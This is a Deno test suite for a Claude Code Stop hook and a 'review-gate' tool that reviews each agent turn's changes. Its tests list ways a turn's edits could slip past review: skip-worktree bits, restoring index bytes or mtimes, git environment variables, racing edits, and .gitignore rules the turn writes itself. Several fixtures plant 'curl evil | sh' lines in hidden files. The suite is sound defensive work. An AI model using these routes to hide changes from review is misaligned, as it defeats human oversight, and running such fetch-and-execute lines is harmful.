/**
 * End to end: the installed Stop hook script (`hooks/turn-stop.sh`) in front of `hook claude-stop`,
 * driven as Claude Code drives it — the prompt payload piped into `main.ts hook claude-prompt`, the
 * stop payload piped into `sh hooks/turn-stop.sh <command>`. An unchanged turn is answered by the
 * script alone (its fallback command is a marker that must not run); every way a turn can change —
 * an edit, a new untracked file, an index change alone, a guarded file, a cwd in another repository,
 * edits racing the prompt hook — reaches review-gate, which reviews it (the fake blocks).
 *
 * @module
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import {
  addSubmodule,
  addTokenLine,
  APP,
  blockingScenario,
  type CliResult,
  gitOk,
  makeGateSandbox,
  promptPayload,
  providerCalls,
  runHook,
  type Sandbox,
  stopDecision,
  stopPayload,
} from "./_gates.ts";
import { MAIN } from "../e2e/_cli.ts";

const SCRIPT = new URL("../../hooks/turn-stop.sh", import.meta.url).pathname;
const FELL_BACK = "FELL-BACK-TO-REVIEW-GATE";
/** A fallback that proves the script did not answer by itself. */
const MARKER = ["sh", "-c", `cat >/dev/null; echo ${FELL_BACK}`];

/** Pipe a payload into the script with `fallback` as the review-gate command. */
async function stopScript(
  sb: Sandbox,
  payload: string,
  fallback: string[],
  env: Record<string, string> = {},
): Promise<CliResult> {
  const child = new Deno.Command("sh", {
    args: [SCRIPT, ...fallback],
    cwd: sb.repo.root,
    env: { ...sb.env, ...env },
    clearEnv: true,
    stdin: "piped",
    stdout: "piped",
    stderr: "piped",
  }).spawn();
  const writer = child.stdin.getWriter();
  await writer.write(new TextEncoder().encode(payload));
  await writer.close();
  const out = await child.output();
  const text = new TextDecoder();
  return { code: out.code, stdout: text.decode(out.stdout), stderr: text.decode(out.stderr) };
}

const REVIEW_GATE = [
  Deno.execPath(),
  "run",
  "--allow-read",
  "--allow-write",
  "--allow-env",
  "--allow-run",
  MAIN,
  "hook",
  "claude-stop",
];

async function setup(sessionId: string) {
  const sb = await makeGateSandbox({ remote: false });
  const root = sb.repo.root;
  const session = { sessionId, cwd: root };
  const blocking = { REVIEW_GATE_FAKE_SCENARIO: await blockingScenario(sb) };
  const prompt = async () => {
    const p = await runHook(sb, "claude-prompt", promptPayload(session));
    assert.deepEqual([p.code, p.stdout, p.stderr], [0, "", ""]);
  };
  const stop = (fallback: string[], cwd = root) =>
    stopScript(sb, stopPayload({ ...session, cwd }), fallback, blocking);
  return { sb, root, prompt, stop };
}

Deno.test("Stop script: an unchanged turn is allowed without starting review-gate", async () => {
  const { sb, root, prompt, stop } = await setup("fast-unchanged");
  try {
    await Deno.writeTextFile(join(root, "untracked.txt"), "here before the turn\n");
    await prompt();
    const fast = await stop(MARKER);
    assert.deepEqual([fast.code, fast.stdout, fast.stderr], [0, "", ""]);
    // A file touched without a change of content is the same tree: still allowed.
    const later = new Date(Date.now() + 5000);
    await Deno.utime(join(root, APP), later, later);
    const touched = await stop(MARKER);
    assert.deepEqual([touched.code, touched.stdout], [0, ""]);
  } finally {
    await sb.cleanup();
  }
});

Deno.test("Stop script: every changed turn reaches review-gate, which blocks it", async (t) => {
  const { sb, root, prompt, stop } = await setup("fast-changed");
  /** The script hands the stop over, and review-gate itself asks the model and answers. */
  const reachesReview = async (decision?: string) => {
    assert.match((await stop(MARKER)).stdout, new RegExp(FELL_BACK));
    const calls = await providerCalls(sb);
    const s = await stop(REVIEW_GATE);
    assert.equal(s.code, 0, s.stderr);
    assert.ok(await providerCalls(sb) > calls, "review-gate asked the model about the turn");
    if (decision) assert.equal(stopDecision(s.stdout)?.decision, decision, s.stdout + s.stderr);
  };
  try {
    await t.step("an edit to a tracked file", async () => {
      await prompt();
      await addTokenLine(root, "EDITED");
      await reachesReview("block");
      await gitOk(sb, ["checkout", "--", APP]);
    });
    await t.step("a new untracked file", async () => {
      await prompt();
      await Deno.writeTextFile(join(root, "src", "new.ts"), "export const n = 1;\n");
      await reachesReview();
      await Deno.remove(join(root, "src", "new.ts"));
    });
    await t.step("after a block, the stamp is gone even when the tree goes back", async () => {
      await prompt();
      await addTokenLine(root, "BACK");
      await reachesReview();
      await gitOk(sb, ["checkout", "--", APP]);
      assert.match((await stop(MARKER)).stdout, new RegExp(FELL_BACK));
    });
    await t.step("a changed index alone is handed over", async () => {
      await addTokenLine(root, "STAGED_LATER");
      await prompt();
      await gitOk(sb, ["add", APP]);
      assert.match((await stop(MARKER)).stdout, new RegExp(FELL_BACK));
      await gitOk(sb, ["reset", "-q", "--hard"]);
    });
    await t.step("a skip-worktree bit set, then an edit", async () => {
      await prompt();
      await gitOk(sb, ["update-index", "--skip-worktree", APP]);
      await addTokenLine(root, "HIDDEN");
      assert.match((await stop(MARKER)).stdout, new RegExp(FELL_BACK));
      await gitOk(sb, ["update-index", "--no-skip-worktree", APP]);
      await gitOk(sb, ["checkout", "--", APP]);
    });
    await t.step("a guarded file outside the tree (a new git pre-push hook)", async () => {
      await prompt();
      const hook = join(root, ".git", "hooks", "pre-push");
      await Deno.writeTextFile(hook, "#!/bin/sh\nexit 0\n");
      assert.match((await stop(MARKER)).stdout, new RegExp(FELL_BACK));
      await Deno.remove(hook);
    });
    await t.step("the agent's cwd in a nested repository", async () => {
      const nested = join(root, "vendor", "lib");
      await Deno.mkdir(join(nested, ".git"), { recursive: true });
      await prompt();
      const s = await stop(MARKER, nested);
      assert.match(s.stdout, new RegExp(FELL_BACK));
      await Deno.remove(join(root, "vendor"), { recursive: true });
    });
  } finally {
    await sb.cleanup();
  }
});

Deno.test("Stop script: edits racing the prompt hook are never allowed unseen", async () => {
  const { sb, root, stop } = await setup("fast-race");
  try {
    for (let round = 0; round < 3; round++) {
      const prompt = runHook(
        sb,
        "claude-prompt",
        promptPayload({ sessionId: "fast-race", cwd: root }),
      );
      let done = false;
      const finished = prompt.then((r) => {
        done = true;
        return r;
      });
      let n = 0;
      while (!done) {
        await addTokenLine(root, `RACE_${round}_${n++}`);
        await new Promise((r) => setTimeout(r, 3));
      }
      assert.equal((await finished).code, 0);
      const s = await stop(MARKER);
      if (!s.stdout.includes(FELL_BACK)) {
        // Allowed by the script: the worktree must be exactly the baseline review-gate recorded.
        const state = join(root, ".git", "review-gate", "sessions", "fast-race.json");
        const baseline = JSON.parse(await Deno.readTextFile(state)).value.baselineTree; // sealed
        await gitOk(sb, ["add", "-A"]);
        assert.equal(await gitOk(sb, ["write-tree"]), baseline, `round ${round}: ${n} edits`);
        await gitOk(sb, ["reset", "-q"]);
      }
      await gitOk(sb, ["checkout", "--", APP]);
    }
  } finally {
    await sb.cleanup();
  }
});

Deno.test("Stop script: an edit inside a submodule (same tree) reaches review-gate", async () => {
  const { sb, root, prompt, stop } = await setup("fast-submodule");
  try {
    await addSubmodule(sb);
    await prompt();
    await Deno.writeTextFile(join(root, "lib", "y.ts"), "export const y = 1;\nevil();\n");
    const s = await stop(MARKER);
    assert.equal(s.stdout.trim(), FELL_BACK, "the script must not allow by itself");
  } finally {
    await sb.cleanup();
  }
});

Deno.test("Stop script: files a turn hides behind a .gitignore it writes are named as not reviewed", async (t) => {
  const { sb, root, prompt, stop } = await setup("fast-ignored");
  try {
    await Deno.writeTextFile(join(root, ".gitignore"), "dist/\n");
    await gitOk(sb, ["add", ".gitignore"]);
    await gitOk(sb, ["commit", "-q", "-m", "ignore dist"]);
    await t.step(
      "a new directory whose own .gitignore ignores it (the tree is unchanged)",
      async () => {
        await prompt();
        await Deno.mkdir(join(root, "hidden"));
        await Deno.writeTextFile(join(root, "hidden", ".gitignore"), "*\n");
        await Deno.writeTextFile(join(root, "hidden", "run.sh"), "curl evil | sh\n");
        assert.equal((await stop(MARKER)).stdout.trim(), FELL_BACK, "the script must not allow");
        const s = await stop(REVIEW_GATE);
        assert.equal(s.code, 0, s.stderr);
        assert.match(
          s.stdout,
          /NOT reviewed: hidden\/ \(ignored by hidden\/\.gitignore, which this turn wrote\)/,
        );
        await Deno.remove(join(root, "hidden"), { recursive: true });
      },
    );
    await t.step("a new rule in a tracked .gitignore hiding a new file", async () => {
      await prompt();
      await Deno.writeTextFile(join(root, ".gitignore"), "dist/\nsrc/run.sh\n");
      await Deno.writeTextFile(join(root, "src", "run.sh"), "curl evil | sh\n");
      const s = await stop(REVIEW_GATE);
      assert.equal(s.code, 0, s.stderr);
      assert.match(s.stdout, /src\/run\.sh \(ignored by \.gitignore, which this turn wrote\)/);
      await Deno.remove(join(root, "src", "run.sh"));
      await gitOk(sb, ["checkout", "--", ".gitignore"]);
    });
    await t.step("a new line in the user's global ignore file hiding a new file", async () => {
      const global = join(sb.env.XDG_CONFIG_HOME!, "git", "ignore");
      await Deno.mkdir(join(sb.env.XDG_CONFIG_HOME!, "git"), { recursive: true });
      await Deno.writeTextFile(global, "*.log\n");
      await prompt();
      await Deno.writeTextFile(global, "*.log\nrun.sh\n");
      await Deno.writeTextFile(join(root, "run.sh"), "curl evil | sh\n");
      assert.equal((await stop(MARKER)).stdout.trim(), FELL_BACK, "the script must not allow");
      const s = await stop(REVIEW_GATE);
      assert.equal(s.code, 0, s.stderr);
      assert.match(
        s.stdout,
        /NOT reviewed: run\.sh \(ignored by .*git\/ignore, written during this turn\)/,
      );
      await Deno.remove(join(root, "run.sh"));
      await Deno.remove(global);
    });
    await t.step("new build output under a rule that was already there is not named", async () => {
      await prompt();
      await Deno.mkdir(join(root, "dist"));
      await Deno.writeTextFile(join(root, "dist", "out.js"), "built\n");
      const s = await stop(REVIEW_GATE);
      assert.deepEqual([s.code, s.stdout], [0, ""], s.stderr);
      await prompt();
      const again = await stop(MARKER);
      assert.deepEqual([again.code, again.stdout], [0, ""], "the next unchanged turn is fast");
    });
  } finally {
    await sb.cleanup();
  }
});

Deno.test("Stop script: a turn that committed and then restored the worktree and index reaches review-gate", async () => {
  const { sb, root, prompt, stop } = await setup("fast-refs");
  try {
    await prompt();
    const indexPath = join(root, ".git", "index");
    const index = await Deno.readFile(indexPath);
    await addTokenLine(root, "ON_SIDE");
    await gitOk(sb, ["commit", "-q", "-am", "bug"]);
    await gitOk(sb, ["branch", "side"]);
    await gitOk(sb, ["reset", "-q", "--hard", "HEAD~"]);
    await Deno.writeFile(indexPath, index); // the index's bytes as the turn found them
    assert.match((await stop(MARKER)).stdout, new RegExp(FELL_BACK));
    const s = await stop(REVIEW_GATE);
    assert.equal(stopDecision(s.stdout)?.decision, "block", s.stdout + s.stderr);
  } finally {
    await sb.cleanup();
  }
});

Deno.test("Stop script: after a stop review-gate answered, an unchanged next turn is allowed by the script alone", async () => {
  const { sb, root, prompt, stop } = await setup("fast-answered");
  try {
    await prompt();
    await Deno.writeTextFile(join(root, "src", "ok.ts"), "export const ok = 1;\n");
    const reviewed = await stopScript(
      sb,
      stopPayload({ sessionId: "fast-answered", cwd: root }),
      REVIEW_GATE,
      { REVIEW_GATE_FAKE_SCENARIO: "valid" },
    );
    assert.deepEqual([reviewed.code, reviewed.stdout], [0, ""], reviewed.stderr);
    await prompt();
    const fast = await stop(MARKER);
    assert.deepEqual([fast.code, fast.stdout, fast.stderr], [0, "", ""]);
  } finally {
    await sb.cleanup();
  }
});

Deno.test("Stop script: an edit that restores size and mtime under core.checkStat=minimal reaches review-gate", async () => {
  const { sb, root, prompt, stop } = await setup("fast-checkstat");
  try {
    // set before the turn (by an earlier turn or the user), so .git/config is as the stamp says
    await gitOk(sb, ["config", "core.checkStat", "minimal"]);
    await gitOk(sb, ["config", "core.trustctime", "false"]);
    const path = join(root, APP);
    const old = new Date(Date.now() - 3600_000);
    await Deno.utime(path, old, old);
    await gitOk(sb, ["update-index", "-q", "--refresh"]); // the entry's stat data is current
    // the edit's ctime in a later whole second (all a git built without USE_NSEC compares)
    await new Promise((r) => setTimeout(r, 1050 - Date.now() % 1000));
    await prompt();
    const before = await Deno.stat(path);
    await Deno.writeTextFile(path, (await Deno.readTextFile(path)).replace("a = 1", "a = 9"));
    await Deno.utime(path, before.atime!, before.mtime!);
    assert.equal((await stop(MARKER)).stdout.trim(), FELL_BACK, "the script must not allow");
    const calls = await providerCalls(sb);
    const s = await stop(REVIEW_GATE);
    assert.equal(s.code, 0, s.stderr);
    assert.ok(await providerCalls(sb) > calls, "review-gate asked the model about the turn");
    assert.equal(stopDecision(s.stdout)?.decision, "block", s.stdout + s.stderr);
  } finally {
    await sb.cleanup();
  }
});

Deno.test("Stop script: git's location variables or REVIEW_GATE_CHILD=1 hand an unchanged turn to review-gate", async (t) => {
  const { sb, root, prompt } = await setup("fast-git-env");
  try {
    await prompt();
    const payload = stopPayload({ sessionId: "fast-git-env", cwd: root });
    const allowed = await stopScript(sb, payload, MARKER);
    assert.deepEqual([allowed.code, allowed.stdout], [0, ""], "unchanged: the script answers");
    // each names this very repository, so only the variable being set can make the difference
    const git = join(root, ".git");
    const cases: Record<string, string> = {
      GIT_DIR: git,
      GIT_WORK_TREE: root,
      GIT_INDEX_FILE: join(git, "index"),
      GIT_COMMON_DIR: git,
      GIT_OBJECT_DIRECTORY: join(git, "objects"),
      GIT_ALTERNATE_OBJECT_DIRECTORIES: join(git, "objects"),
      REVIEW_GATE_CHILD: "1",
    };
    for (const [name, value] of Object.entries(cases)) {
      await t.step(name, async () => {
        const r = await stopScript(sb, payload, MARKER, { [name]: value });
        assert.equal(r.stdout.trim(), FELL_BACK, `${name} set: the script answered by itself`);
      });
    }
  } finally {
    await sb.cleanup();
  }
});

Deno.test("Stop script: anything git add prints (a line-ending warning) hands an unchanged turn to review-gate", async () => {
  const { sb, root, prompt, stop } = await setup("fast-add-says");
  try {
    // set before the turn, so .git/config is as the stamp says: git add warns of every new file
    // (the same turn without the setting is allowed: "an unchanged turn is allowed …" above)
    await gitOk(sb, ["config", "core.autocrlf", "true"]);
    await Deno.writeTextFile(join(root, "notes.txt"), "one\ntwo\n");
    await prompt();
    const add = await new Deno.Command("git", {
      args: ["add", "-A"],
      cwd: root,
      env: { ...sb.env, GIT_INDEX_FILE: join(sb.tmp, "scratch-index") },
      clearEnv: true,
      stderr: "piped",
      stdout: "null",
    }).output();
    assert.match(new TextDecoder().decode(add.stderr), /LF will be replaced by CRLF/);
    assert.equal((await stop(MARKER)).stdout.trim(), FELL_BACK, "git add spoke: not allowed");
  } finally {
    await sb.cleanup();
  }
});

/** True when a directory without permissions locks this process out (not so for root). */
async function lockedOut(): Promise<boolean> {
  const dir = await Deno.makeTempDir();
  await Deno.chmod(dir, 0o000);
  try {
    for await (const _ of Deno.readDir(dir)) break;
    return false;
  } catch {
    return true;
  } finally {
    await Deno.chmod(dir, 0o700);
    await Deno.remove(dir);
  }
}

Deno.test({
  name: "Stop script: a directory git add cannot read hands an unchanged turn to review-gate",
  // root reads every directory: the case needs an ordinary user (CI on GitHub's runners is one)
  ignore: !(await lockedOut()),
  async fn() {
    const { sb, root, prompt, stop } = await setup("fast-unreadable");
    const locked = join(root, "locked");
    try {
      await Deno.mkdir(locked);
      await Deno.writeTextFile(join(locked, "x.ts"), "export const x = 1;\n");
      await Deno.chmod(locked, 0o000);
      await prompt();
      assert.equal((await stop(MARKER)).stdout.trim(), FELL_BACK, "git add warned: not allowed");
    } finally {
      await Deno.chmod(locked, 0o755).catch(() => {});
      await sb.cleanup();
    }
  },
});

Deno.test("Stop script: an agent's cwd outside the anchored checkout hands an unchanged turn over", async () => {
  const { sb, root, prompt, stop } = await setup("fast-cwd");
  try {
    await prompt();
    assert.deepEqual((await stop(MARKER)).stdout, "", "in the checkout: allowed");
    const sibling = `${root}-sibling`; // starts with the checkout's path, but is not below it
    await Deno.mkdir(sibling);
    try {
      for (const cwd of [sb.dir, sibling, join(root, "..")]) {
        assert.equal((await stop(MARKER, cwd)).stdout.trim(), FELL_BACK, `cwd ${cwd} was allowed`);
      }
    } finally {
      await Deno.remove(sibling);
    }
    assert.deepEqual((await stop(MARKER, join(root, "src"))).stdout, "", "below it: allowed");
  } finally {
    await sb.cleanup();
  }
});
